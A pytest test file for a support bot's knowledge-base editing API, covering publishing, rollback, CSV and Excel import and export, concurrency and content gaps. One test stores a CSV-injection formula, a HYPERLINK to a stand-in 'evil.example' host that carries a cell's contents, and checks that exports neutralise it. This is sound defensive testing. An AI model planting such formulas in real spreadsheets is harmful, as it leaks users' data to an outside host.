"""Content editors keep the KB right through the hub's API, and the running bot follows without a restart."""

from __future__ import annotations

import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from core.redis import Keys, sync_client
from kb.gaps import GapLog
from kb.search import Searcher
from tests.clients import ask_until, kb, run_cli

# Chats wait in the queue for an agent to claim them (the desk's push assignment is tested in test_service_desk.py).
pytestmark = pytest.mark.usefixtures("manual_assignment")


def xlsx(*rows: list) -> bytes:
    """An Excel workbook whose first sheet holds ``rows`` (the first: the header), as a shop's spreadsheet would."""
    import io

    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()





NEW = {
    "id": "orders-popup-store-pets-en",
    "question": "Are dogs allowed in the Harbor Market pop-up store?",
    "phrasings": ["can I bring my dog to the pop-up shop", "pets in the pop-up store", "is the pop up store pet friendly"],
    "answer": "Yes: well-behaved dogs on a leash are **welcome** in every Harbor Market pop-up store. MARKER-7731",
    "category": "orders",
    "language": "en",
    "tags": ["store"],
}


def test_draft_publish_reaches_the_running_bot_and_rollback_restores(editor, customer_factory):
    before = kb(editor, "GET", "/versions").json()["live"]
    created = kb(editor, "POST", "/entries", json=NEW)
    assert created.status_code == 201 and created.json()["status"] == "draft" and created.json()["updated_by"] == "erin"

    # "Try it": the draft knows the new entry, the published KB does not yet.
    draft = kb(editor, "POST", "/try", json={"question": "can I take my puppy into your pop up shop?", "target": "draft"}).json()
    assert draft["hits"][0]["id"] == NEW["id"]
    assert {"dense", "lexical", "score"} <= set(draft["hits"][0])
    published = kb(editor, "POST", "/try", json={"question": "can I take my puppy into your pop up shop?", "target": "published"}).json()
    assert all(h["id"] != NEW["id"] for h in published["hits"])
    assert NEW["id"] in kb(editor, "GET", "/pending").json()["changed"]

    info = kb(editor, "POST", "/publish").json()
    assert info["version"] > before
    assert info["embedded_texts"] <= len(NEW["phrasings"]) + 1  # only the new wordings, not the whole KB

    # The action server (another process) switches without a restart.
    reply = ask_until(customer_factory, "can I take my puppy into your pop up shop?", lambda r: "MARKER-7731" in r["text"])
    assert "MARKER-7731" in reply["text"]

    # Edit the answer, publish, then roll back to the version before the edit.
    changed = kb(editor, "PUT", f"/entries/{NEW['id']}", json={**{k: v for k, v in NEW.items() if k != "id"}, "answer": "Gift card balances are under Wallet. MARKER-9902"})
    assert changed.json()["revision"] == 2
    kb(editor, "POST", "/publish")
    assert "MARKER-9902" in ask_until(customer_factory, "can I take my puppy into your pop up shop?", lambda r: "MARKER-9902" in r["text"])["text"]
    history = kb(editor, "GET", f"/entries/{NEW['id']}/history").json()
    assert [h["revision"] for h in history] == [1, 2] and all(h["updated_by"] == "erin" for h in history)

    rolled = kb(editor, "POST", "/rollback", json={"version": info["version"]})
    assert rolled.status_code == 200, rolled.text
    assert "MARKER-7731" in ask_until(customer_factory, "can I take my puppy into your pop up shop?", lambda r: "MARKER-7731" in r["text"])["text"]
    versions = kb(editor, "GET", "/versions").json()
    live = next(v for v in versions["versions"] if v["version"] == versions["live"])
    assert live["version"] == info["version"] or live.get("relearn_of") == info["version"]  # or its complete version, once relearned
    assert kb(editor, "POST", "/rollback", json={"version": 99999}).status_code == 404


def test_agents_may_read_but_not_change_the_kb(agent_factory):
    alice = agent_factory("alice")
    assert kb(alice, "GET", "/entries?q=shipping").status_code == 200
    assert kb(alice, "POST", "/entries", json={**NEW, "id": "x-agent-en"}).status_code == 403
    assert kb(alice, "POST", "/publish").status_code == 403


def test_import_with_bad_rows_changes_nothing_and_reports_every_row(editor):
    before = kb(editor, "GET", "/entries").json()
    csv = (
        "id,language,category,question,phrasings,answer\n"
        "ok-new-en,en,orders,A fine question?,a | b,A fine answer.\n"
        "bad-lang,fr,orders,Question?,,Answer.\n"
        "bad-answer,en,orders,Question?,,\n"
        "ok-new-en,en,orders,Duplicate?,,Answer.\n"
    )
    resp = kb(editor, "POST", "/import", files={"file": ("kb.csv", csv.encode(), "text/csv")})
    assert resp.status_code == 422
    errors = resp.json()["detail"]["errors"]
    assert [e["row"] for e in errors] == [3, 4, 5]
    assert "unknown language" in errors[0]["message"] and "answer" in errors[1]["message"] and "duplicate" in errors[2]["message"]
    assert kb(editor, "GET", "/entries").json() == before


def test_import_of_json_that_is_not_a_list_of_entries_is_refused_not_reported_as_success(editor, tmp_path):
    before = kb(editor, "GET", "/entries").json()
    resp = kb(editor, "POST", "/import", files={"file": ("kb.json", b'{"not": "a list"}', "application/json")})
    assert resp.status_code == 422, resp.text
    assert resp.json()["detail"]["message"].startswith('expected a JSON array of entries, or an object with an "entries" array')
    path = tmp_path / "kb.json"
    path.write_text('{"not": "a list"}')
    cli = run_cli("-m", "kb", "import", str(path), "--no-publish")
    said = " ".join(cli.stderr.split())  # the terminal's width wraps the line
    assert cli.returncode == 1 and "expected a JSON array of entries" in said and "nothing was imported" in said, cli.stderr
    assert kb(editor, "GET", "/entries").json() == before


def test_blank_and_oversized_fields_are_refused_naming_field_and_limit(editor):
    base = {**NEW, "id": "other-limits-probe-en"}
    for field in ("question", "answer"):
        resp = kb(editor, "POST", "/entries", json={**base, field: " \u200b  "})
        assert resp.status_code == 422 and resp.json()["detail"].startswith(f"{field}: must not be blank"), resp.text
    too_long = kb(editor, "POST", "/entries", json={**base, "phrasings": ["x" * 100_000]})
    assert too_long.status_code == 422 and "phrasings: phrasing 1 is too long: at most 1000 characters" in too_long.json()["detail"], too_long.text
    too_many = kb(editor, "POST", "/entries", json={**base, "phrasings": [f"wording {i}" for i in range(5000)]})
    assert too_many.status_code == 422 and "at most 300 phrasings per entry" in too_many.json()["detail"], too_many.text
    assert kb(editor, "GET", f"/entries/{base['id']}").status_code == 404
    same = kb(editor, "POST", "/entries", json={**base, "question": "  Are limits probed here? ", "phrasings": ["probe the limits"] * 5000 + ["  ", ""]})
    assert same.status_code == 201, same.text
    assert same.json()["question"] == "Are limits probed here?" and same.json()["phrasings"] == ["probe the limits"]
    assert kb(editor, "DELETE", f"/entries/{base['id']}").status_code == 204


def test_parallel_saves_through_the_hub_each_get_their_own_revision(editor):
    entry = {**NEW, "id": "orders-parallel-saves-en"}
    assert kb(editor, "POST", "/entries", json=entry).status_code == 201
    answers = [f"Parallel answer {i}. MARKER-P{i}" for i in range(16)]
    body = {k: v for k, v in entry.items() if k != "id"}
    start = threading.Barrier(len(answers))

    def save(answer: str):
        start.wait()
        return kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "answer": answer})

    with ThreadPoolExecutor(len(answers)) as pool:
        replies = list(pool.map(save, answers))
    assert [r.status_code for r in replies] == [200] * len(answers), [r.text for r in replies if r.status_code != 200]
    assert sorted(r.json()["revision"] for r in replies) == list(range(2, len(answers) + 2))  # no number given twice
    history = kb(editor, "GET", f"/entries/{entry['id']}/history").json()
    assert [h["revision"] for h in history] == list(range(1, len(answers) + 2))  # unique and increasing
    assert sorted(h["answer"] for h in history[1:]) == sorted(answers)  # no save lost
    assert kb(editor, "DELETE", f"/entries/{entry['id']}").status_code == 204


def test_a_save_from_a_stale_copy_is_refused_and_says_who_changed_it(editor):
    entry = {**NEW, "id": "orders-stale-save-en"}
    body = {k: v for k, v in entry.items() if k != "id"}
    assert kb(editor, "POST", "/entries", json=entry).json()["revision"] == 1
    loaded_by_a = loaded_by_b = kb(editor, "GET", f"/entries/{entry['id']}").json()["revision"]
    a = kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "answer": "A's new answer. MARKER-A", "base_revision": loaded_by_a})
    assert a.status_code == 200 and a.json()["revision"] == 2
    b = kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "tags": ["b-tag"], "base_revision": loaded_by_b})
    assert b.status_code == 409, b.text
    detail = b.json()["detail"]
    assert "changed by erin" in detail["message"] and "since revision 1" in detail["message"] and "now at revision 2" in detail["message"]
    assert detail["current"]["revision"] == 2 and detail["current"]["answer"] == "A's new answer. MARKER-A"
    now = kb(editor, "GET", f"/entries/{entry['id']}").json()
    assert now["answer"] == "A's new answer. MARKER-A" and now["tags"] == ["store"] and now["revision"] == 2
    # Made again from the current revision it is saved; a client that sends no base revision still saves.
    assert kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "answer": now["answer"], "tags": ["b-tag"], "base_revision": 2}).json()["revision"] == 3
    assert kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "answer": "No base revision."}).json()["revision"] == 4
    # A delete from a stale copy deletes nothing either; from the current revision it deletes.
    stale_delete = kb(editor, "DELETE", f"/entries/{entry['id']}?base_revision=3")
    assert stale_delete.status_code == 409 and stale_delete.json()["detail"]["current"]["answer"] == "No base revision."
    assert kb(editor, "GET", f"/entries/{entry['id']}").json()["revision"] == 4
    assert kb(editor, "DELETE", f"/entries/{entry['id']}?base_revision=4").status_code == 204
    gone = kb(editor, "PUT", f"/entries/{entry['id']}", json={**body, "base_revision": 4})
    assert gone.status_code == 409 and "was deleted by erin" in gone.json()["detail"]["message"] and gone.json()["detail"]["current"] is None


def test_export_then_import_is_idempotent(editor, tmp_path):
    exported = kb(editor, "GET", "/export?format=csv")
    # UTF-8 with a byte-order mark: Excel (GBK on Chinese Windows) showed every Chinese answer of a mark-less export as mojibake.
    assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbfid,")
    assert "运费怎么算？满多少包邮？" in exported.content.decode("utf-8-sig")
    cli = run_cli("-m", "kb", "export", str(tmp_path / "kb.csv"))
    assert cli.returncode == 0 and (tmp_path / "kb.csv").read_bytes().startswith(b"\xef\xbb\xbfid,"), cli.stderr
    again = kb(editor, "POST", "/import", files={"file": ("kb.csv", exported.content, "text/csv")})
    assert again.status_code == 200 and again.json()["created"] == 0 and again.json()["updated"] == 0
    xlsx = kb(editor, "GET", "/export?format=xlsx")
    assert kb(editor, "POST", "/import", files={"file": ("kb.xlsx", xlsx.content, "application/octet-stream")}).json()["updated"] == 0


def test_a_shop_importing_its_own_faq_can_replace_the_whole_kb(editor, tmp_path):
    """A new shop imported its own FAQ and the starter one (the demo shop "Harbor Market") stayed beside it: its own
    wordings were ambiguous against the starter's entries on the same topics, and "how do I create an account" was
    answered outright with "Download the Harbor Market app". The only way out was deleting 132 entries one by one.
    An import with replace (API ?replace=true, ./cs kb import --replace) makes the working copy exactly the file: the
    other entries are deleted as drafts in the same atomic step. Here the "file" is the KB as it is plus two entries
    made for the test, so what it deletes is those two and the shared KB is left as it was."""
    exported = kb(editor, "GET", "/export?format=csv").content
    made = [{**NEW, "id": f"replace-me-{n}-en", "question": f"Replace me {n}?"} for n in (1, 2)]
    for entry in made:
        assert kb(editor, "POST", "/entries", json=entry).status_code == 201
    before = {e["id"]: e["revision"] for e in kb(editor, "GET", "/entries").json()}

    replaced = kb(editor, "POST", "/import?replace=true", files={"file": ("faq.csv", exported, "text/csv")})
    assert replaced.status_code == 200, replaced.text
    assert replaced.json() == {"created": 0, "updated": 0, "unchanged": len(before) - 2, "deleted": 2}
    after = {e["id"]: e["revision"] for e in kb(editor, "GET", "/entries").json()}
    assert after == {k: v for k, v in before.items() if not k.startswith("replace-me-")}  # the rest untouched, same revisions
    assert {"replace-me-1-en", "replace-me-2-en"} <= set(kb(editor, "GET", "/pending").json()["deleted"])
    assert kb(editor, "GET", "/entries/replace-me-1-en/history").json()[-1]["answer"] == "(deleted)"

    # The same from a terminal: ./cs kb import --replace
    for entry in made:
        assert kb(editor, "POST", "/entries", json=entry).status_code == 201
    (tmp_path / "faq.csv").write_bytes(exported)
    cli = run_cli("-m", "kb", "import", str(tmp_path / "faq.csv"), "--replace", "--no-publish")
    assert cli.returncode == 0 and "2 deleted (not in the file)" in " ".join(cli.stderr.split()), cli.stdout + cli.stderr
    assert {e["id"]: e["revision"] for e in kb(editor, "GET", "/entries").json()} == after

    # A file with no entries would empty the KB: refused, nothing deleted, from the API and the terminal.
    header_only = b"\xef\xbb\xbfid,language,question,answer\r\n"
    empty = kb(editor, "POST", "/import?replace=true", files={"file": ("faq.csv", header_only, "text/csv")})
    assert empty.status_code == 422 and "would delete every entry" in empty.json()["detail"]["message"], empty.text
    (tmp_path / "empty.csv").write_bytes(header_only)
    cli = run_cli("-m", "kb", "import", str(tmp_path / "empty.csv"), "--replace", "--no-publish")
    assert cli.returncode == 1 and "would delete every entry" in " ".join(cli.stderr.split()), cli.stdout + cli.stderr
    assert {e["id"]: e["revision"] for e in kb(editor, "GET", "/entries").json()} == after


def test_a_chinese_excel_csv_in_gbk_imports_as_chinese_and_formulas_export_as_text(editor, tmp_path):
    """Excel on Chinese Windows saves "CSV" in GBK: it came in as replacement characters (the API) or a traceback
    (./cs kb import). And a customer's "=HYPERLINK(...)" drafted from a content gap came out of an export as a live
    formula in Excel (CSV injection): now text in the workbook, and an apostrophe-guarded cell in the CSV that
    reads back as it was."""
    import io

    from openpyxl import load_workbook

    gbk = "id,language,question,answer\nbilling-fapiao-gbk-zh,zh,发票怎么开？,在订单详情页点“申请发票”。\n".encode("gbk")
    imported = kb(editor, "POST", "/import", files={"file": ("发票.csv", gbk, "text/csv")})
    assert imported.status_code == 200, imported.text
    assert kb(editor, "GET", "/entries/billing-fapiao-gbk-zh").json()["question"] == "发票怎么开？"
    cli_file = tmp_path / "gbk.csv"
    cli_file.write_bytes(gbk.replace(b"billing-fapiao-gbk-zh", b"billing-fapiao-gbk-cli-zh"))
    by_cli = run_cli("-m", "kb", "import", str(cli_file), "--no-publish")
    assert by_cli.returncode == 0 and "Traceback" not in by_cli.stderr, by_cli.stderr
    assert kb(editor, "GET", "/entries/billing-fapiao-gbk-cli-zh").json()["question"] == "发票怎么开？"
    not_text = kb(editor, "POST", "/import", files={"file": ("x.csv", b"\xff\xfe\xfa\x00\x81", "text/csv")})
    assert not_text.status_code == 422 and "UTF-8" in not_text.json()["detail"]["message"]

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    made = kb(editor, "POST", "/entries", json={"id": "other-hostile-cell-en", "language": "en", "question": hostile,
                                                "answer": "+1 and -1 and @sum are just text", "category": "other"})
    assert made.status_code == 201, made.text
    sheet = load_workbook(io.BytesIO(kb(editor, "GET", "/export?format=xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    exported = kb(editor, "GET", "/export?format=csv").text
    assert "'=HYPERLINK" in exported and "'+1 and -1" in exported and "\n=HYPERLINK" not in exported
    again = kb(editor, "POST", "/import", files={"file": ("kb.csv", exported.encode(), "text/csv")})
    assert again.status_code == 200 and again.json()["updated"] == 0  # read back exactly as it was
    assert kb(editor, "GET", "/entries/other-hostile-cell-en").json()["question"] == hostile
    for gone in ("billing-fapiao-gbk-zh", "billing-fapiao-gbk-cli-zh", "other-hostile-cell-en"):
        kb(editor, "DELETE", f"/entries/{gone}")


def test_a_spreadsheet_as_editors_keep_it_imports_blank_rows_full_width_bars_and_stray_spaces_included(editor):
    """A Chinese editor's spreadsheet: an empty separator row (and Excel's empty trailing rows), phrasings split by a
    full-width ｜ or one per line, tags by "，", an id cell with a space around it, "ZH" for the language. Each of these
    used to refuse the whole file ("id: missing; question: missing; answer: missing" for the empty row, a regex for the
    id) or keep "a｜b｜c" as one phrasing; a real duplicate is still refused, naming its row."""
    header = "id,language,category,question,phrasings,answer,tags,status"
    rows = [
        "imp-gift-invoice-zh,zh,payment,可以开礼品发票吗？,礼品发票｜送礼发票｜能不能开礼品票,可以，下单时选择**礼品发票**即可。,发票，礼品,draft",
        ",,,,,,,",
        "imp-expired-coupon-zh,zh,payment,优惠券过期了还能用吗？,\"券过期了\n过期优惠券\",过期的优惠券无法使用。,优惠券,draft",
        " ,  , ,\u3000,,,,",
    ]
    dup = "imp-expired-coupon-zh,zh,payment,优惠券过期了还能用吗？,券过期了,重复的一行。,优惠券,draft"
    refused = kb(editor, "POST", "/import", files={"file": ("faq.csv", ("\ufeff" + "\r\n".join([header, *rows, dup]) + "\r\n").encode(), "text/csv")})
    assert refused.status_code == 422, refused.text
    assert [(e["row"], e["id"]) for e in refused.json()["detail"]["errors"]] == [(6, "imp-expired-coupon-zh")]  # the blank rows 3 and 5 are no error

    imported = kb(editor, "POST", "/import", files={"file": ("faq.csv", ("\ufeff" + "\r\n".join([header, *rows]) + "\r\n").encode(), "text/csv")})
    assert imported.status_code == 200 and imported.json()["created"] == 2, imported.text
    gift = kb(editor, "GET", "/entries/imp-gift-invoice-zh").json()
    assert gift["phrasings"] == ["礼品发票", "送礼发票", "能不能开礼品票"] and gift["tags"] == ["发票", "礼品"]
    assert kb(editor, "GET", "/entries/imp-expired-coupon-zh").json()["phrasings"] == ["券过期了", "过期优惠券"]

    workbook = xlsx(header.split(","), ["imp-weekend-zh", "zh", "shipping", "周末发货吗？", "周六发货吗 | 周日发不发货", "周末正常发货。", "", ""],
                    [None] * 8, [" imp-holiday-zh ", " ZH", "shipping", "节假日发货吗？", "", "节假日顺延发货。", "", ""], [None] * 8)
    from_excel = kb(editor, "POST", "/import", files={"file": ("faq.xlsx", workbook, "application/octet-stream")})
    assert from_excel.status_code == 200 and from_excel.json()["created"] == 2, from_excel.text
    holiday = kb(editor, "GET", "/entries/imp-holiday-zh").json()
    assert holiday["language"] == "zh" and holiday["question"] == "节假日发货吗？"
    for gone in ("imp-gift-invoice-zh", "imp-expired-coupon-zh", "imp-weekend-zh", "imp-holiday-zh"):
        assert kb(editor, "DELETE", f"/entries/{gone}").status_code == 204


def test_a_spreadsheet_naming_the_language_instead_of_its_code_imports(editor):
    """Editors write the language's name in the language column: "中文", "简体中文", "Chinese", "English", "英文". Each
    refused the whole file ("unknown language '中文'; expected one of en, zh"); now they are zh and en. A language the
    knowledge base does not have is still refused, naming its row."""
    header = "id,language,category,question,answer"
    named = [("imp-name-zh-1", "中文", "zh"), ("imp-name-zh-2", "简体中文", "zh"), ("imp-name-zh-3", " Chinese ", "zh"),
             ("imp-name-en-1", "English", "en"), ("imp-name-en-2", "英文", "en"), ("imp-name-en-3", "ENGLISH", "en")]
    rows = [f"{rid},{cell},other,问题{n}？,答案{n}。" for n, (rid, cell, _) in enumerate(named)]
    refused = kb(editor, "POST", "/import", files={"file": ("faq.csv", "\r\n".join([header, *rows, "imp-name-fr,Français,other,Question ?,Réponse."]).encode(), "text/csv")})
    assert refused.status_code == 422, refused.text
    assert [(e["row"], e["id"]) for e in refused.json()["detail"]["errors"]] == [(8, "imp-name-fr")], refused.text
    imported = kb(editor, "POST", "/import", files={"file": ("faq.csv", "\r\n".join([header, *rows]).encode(), "text/csv")})
    assert imported.status_code == 200 and imported.json()["created"] == len(named), imported.text
    for rid, _, code in named:
        assert kb(editor, "GET", f"/entries/{rid}").json()["language"] == code, rid

    workbook = xlsx(header.split(","), ["imp-name-xlsx-zh", "中文", "shipping", "周末发货吗？", "周末正常发货。"],
                    ["imp-name-xlsx-en", "English", "shipping", "Do you ship at weekends?", "Yes, every day."])
    from_excel = kb(editor, "POST", "/import", files={"file": ("faq.xlsx", workbook, "application/octet-stream")})
    assert from_excel.status_code == 200 and from_excel.json()["created"] == 2, from_excel.text
    assert kb(editor, "GET", "/entries/imp-name-xlsx-zh").json()["language"] == "zh"
    assert kb(editor, "GET", "/entries/imp-name-xlsx-en").json()["language"] == "en"
    for rid in [*(r for r, _, _ in named), "imp-name-xlsx-zh", "imp-name-xlsx-en"]:
        assert kb(editor, "DELETE", f"/entries/{rid}").status_code == 204


def test_a_sheet_with_chinese_column_headers_imports(editor):
    """A Chinese shop's FAQ sheet is headed 编号/语言/分类/问题/相似问法/答案 (or "Question"/"Answer" in title case): the
    import refused it as lacking the columns id, question, answer. Now the headers are read by name in either language."""
    header = "编号,语言,分类,标准问题,相似问法,答案"
    rows = ["imp-head-zh-1,中文,shipping,周日发货吗？,周末发不发货 | 星期天能发货吗,周末正常发货。",
            'imp-head-en-1,英文,shipping,Do you ship on Sundays?,Sunday shipping?,"Yes, every day."']
    imported = kb(editor, "POST", "/import", files={"file": ("faq.csv", ("\ufeff" + "\r\n".join([header, *rows])).encode(), "text/csv")})
    assert imported.status_code == 200 and imported.json()["created"] == 2, imported.text
    zh = kb(editor, "GET", "/entries/imp-head-zh-1").json()
    assert (zh["language"], zh["question"], zh["phrasings"], zh["answer"]) == ("zh", "周日发货吗？", ["周末发不发货", "星期天能发货吗"], "周末正常发货。")
    assert kb(editor, "GET", "/entries/imp-head-en-1").json()["answer"] == "Yes, every day."

    workbook = xlsx(["ID", "Language", "Category", "Question", "Answer"], ["imp-head-xlsx-en", "en", "shipping", "Do you ship on holidays?", "Yes, except New Year."])
    from_excel = kb(editor, "POST", "/import", files={"file": ("faq.xlsx", workbook, "application/octet-stream")})
    assert from_excel.status_code == 200 and from_excel.json()["created"] == 1, from_excel.text

    missing = kb(editor, "POST", "/import", files={"file": ("faq.csv", "编号,语言,问题\r\nx-1,zh,在吗？".encode(), "text/csv")})
    assert missing.status_code == 422 and "answer" in missing.text, missing.text  # still named when truly missing
    for rid in ("imp-head-zh-1", "imp-head-en-1", "imp-head-xlsx-en"):
        assert kb(editor, "DELETE", f"/entries/{rid}").status_code == 204


def test_kb_import_of_a_missing_or_unreadable_file_says_what_is_wrong(tmp_path):
    for name, content, says in (("absent.csv", None, "No such file"), ("faq", b"x", "unsupported file type"),
                                ("broken.xlsx", b"PK not a workbook", "not a readable Excel workbook")):
        path = tmp_path / name
        if content is not None:
            path.write_bytes(content)
        proc = run_cli("-m", "kb", "import", str(path), "--no-publish")
        said = " ".join((proc.stdout + proc.stderr).split())  # rich wraps long lines
        assert proc.returncode == 1 and says in said and "Traceback" not in said, (name, said)

    # ./cs runs where it is typed: a relative file is the operator's, not one inside the repo.
    import subprocess

    from tests.clients import ROOT

    exported = subprocess.run([str(ROOT / "cs"), "kb", "export", "mine.json"], cwd=tmp_path, capture_output=True, text=True)
    assert exported.returncode == 0, exported.stderr
    assert (tmp_path / "mine.json").read_text(encoding="utf-8").startswith("[") and not (ROOT / "mine.json").exists()


def test_unanswered_questions_become_a_gap_group_then_a_draft(editor, customer_factory):
    for wording in ("Can you recommend a good sushi restaurant in Osaka?", "recommend me sushi places in Osaka please"):
        c = customer_factory("en")
        reply = c.say(wording)["replies"][0]
        assert reply["meta"]["decision"] in ("fallback", "suggest"), reply["meta"]
        if reply["meta"]["decision"] == "suggest":  # not counted as a gap; make it a miss the honest way
            c.say("none of those, I mean where to eat sushi in Osaka")
    groups = kb(editor, "GET", "/gaps").json()
    typewriter = next(g for g in groups if any("Osaka" in q for q in g["questions"]))
    assert typewriter["count"] >= 2 and typewriter["language"] == "en"
    made = kb(editor, "POST", "/gaps/draft", json={"id": "orders-osaka-sushi-en", "questions": typewriter["questions"], "language": "en", "category": "other"})
    assert made.status_code == 201
    entry = made.json()
    assert entry["status"] == "draft" and entry["question"] == typewriter["questions"][0]
    assert set(entry["phrasings"]) == set(typewriter["questions"][1:])
    assert not any(any("Osaka" in q for q in g["questions"]) for g in kb(editor, "GET", "/gaps").json())


def test_content_gaps_group_chinese_questions_by_meaning_not_all_in_one(editor, settings):
    """A new shop's content gaps showed one Chinese group "asked 28x" holding 20 unrelated questions (account sign-up,
    weather, restocking, a poem...): groups were cut at a raw cosine of 0.8, and the Chinese model gives 0.83 to two
    unrelated questions. English had the opposite fault (MiniLM's paraphrases mostly under 0.8: "do you take alipay"
    and "can I pay with alipay" were two gaps). The cut is now relative to each model's cosine for unrelated questions."""
    log = GapLog(sync_client(settings), Keys(settings.key_prefix))
    asked = {"zh": ["今天深圳天气怎么样呀", "深圳明天会下雨吗", "帮我写一首关于秋天的诗", "你们老板叫什么名字"],
             "en": ["do you take alipay", "can I pay with alipay"]}
    for language, questions in asked.items():
        for question in questions:
            assert log.record(question, language, "fallback")
    groups = kb(editor, "GET", "/gaps").json()

    def home(question: str) -> set[str]:
        return next(set(g["questions"]) for g in groups if question in g["questions"])

    assert home("今天深圳天气怎么样呀") >= {"深圳明天会下雨吗"}, home("今天深圳天气怎么样呀")
    assert not home("今天深圳天气怎么样呀") & {"帮我写一首关于秋天的诗", "你们老板叫什么名字"}, home("今天深圳天气怎么样呀")
    assert "你们老板叫什么名字" not in home("帮我写一首关于秋天的诗")
    assert home("do you take alipay") >= {"can I pay with alipay"}
    assert log.dismiss([q for questions in asked.values() for q in questions]) == 6


def test_a_complaint_handed_to_a_person_is_not_a_content_gap(editor, customer_factory, agent_factory):
    """A complaint is served (a person takes it, it counts under the complaint categories): no FAQ entry would answer it."""
    complaints = (("en", "I want to complain, your staff was very rude to me"), ("zh", "我要投诉，你们客服态度太差了，骂人"))
    bob = agent_factory("bob")
    for language, text in complaints:
        c = customer_factory(language)
        c.say(text)
        assert bob.get(f"/conversations/{c.id}").json()["packet"]["reason"] == "complaint"
    asked = [q for g in kb(editor, "GET", "/gaps").json() for q in g["questions"]]
    assert not [text for _, text in complaints if text in asked], asked


def test_a_wording_the_editor_stored_is_answered_even_when_it_sounds_like_a_complaint(editor, customer_factory):
    """Rasa's complaint intent hears impatience ("到底"): "邮费到底要多少钱" went to a person as a complaint (a complaint
    ticket, its SLA) even after an editor wrote it into the shipping-fee entry, while "try it" said the bot answers
    it. The stored wording is now answered by its entry; a complaint that is no stored wording still goes to a person."""
    wording = "邮费到底要多少钱"
    entry = kb(editor, "GET", "/entries/shipping-shipping-fee-zh").json()
    body = {k: entry[k] for k in ("question", "phrasings", "answer", "category", "language", "tags")}
    saved = kb(editor, "PUT", "/entries/shipping-shipping-fee-zh", json={**body, "phrasings": [*body["phrasings"], wording]})
    assert saved.status_code == 200, saved.text
    assert kb(editor, "POST", "/publish").status_code == 200
    try:
        assert kb(editor, "POST", "/try", json={"question": wording}).json()["decision"] == "answer"
        reply = ask_until(customer_factory, wording, lambda r: r["meta"].get("decision") == "answer", language="zh")
        assert reply["meta"].get("intent") == "complaint", reply["meta"]  # what Rasa heard: the case this test is about
        assert reply["meta"].get("decision") == "answer" and reply["text"] == entry["answer"], reply
        customer = customer_factory("zh")
        answered = customer.say(wording)
        assert answered["conversation"]["status"] == "bot" and answered["replies"][0]["text"] == entry["answer"], answered
        complaint = customer.say("快递员态度太差了，我要投诉")
        assert complaint["conversation"]["status"] in ("queued", "assigned"), complaint
    finally:
        kb(editor, "PUT", "/entries/shipping-shipping-fee-zh", json=body)
        kb(editor, "POST", "/publish")


def test_not_helpful_vote_is_a_gap(editor, customer_factory, hub):
    c = customer_factory("en")
    answer = c.say("How long does delivery take?")["replies"][0]
    vote = hub.post(f"/api/conversations/{c.id}/feedback", json={"message_id": answer["id"], "helpful": False}, headers=c.headers)
    assert vote.status_code == 204
    groups = kb(editor, "GET", "/gaps").json()
    assert any("How long does delivery take?" in g["questions"] and g["reasons"].get("not_helpful") for g in groups)


def test_agent_gets_kb_suggestions_for_the_latest_question(customer_factory, agent_factory):
    c = customer_factory("zh")
    c.say("转人工")
    c.say("我想开增值税专用发票")
    bob = agent_factory("bob")
    assert bob.post(f"/conversations/{c.id}/claim").status_code == 200
    tips = bob.get(f"/conversations/{c.id}/suggestions").json()
    assert tips and tips[0]["id"].startswith("payment-") and tips[0]["id"].endswith("-zh") and tips[0]["answer"]


def test_searches_during_publish_never_fail(editor, settings):
    searcher = Searcher.from_settings(settings)
    searcher.search("warm up", "en")  # load the model before the clock matters
    errors: list[BaseException] = []
    answered = []
    stop = threading.Event()

    def hammer():
        while not stop.is_set():
            try:
                answered.append(searcher.search("How long does delivery take?", "en").top.id)
            except BaseException as exc:  # noqa: BLE001 - any failure is the finding
                errors.append(exc)

    threads = [threading.Thread(target=hammer) for _ in range(3)]
    for t in threads:
        t.start()
    try:
        for _ in range(3):
            assert kb(editor, "POST", "/publish").status_code == 200
            time.sleep(1.2)
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert not errors, errors[:3]
    assert len(answered) >= 6 and set(answered) == {"shipping-delivery-time-en"}
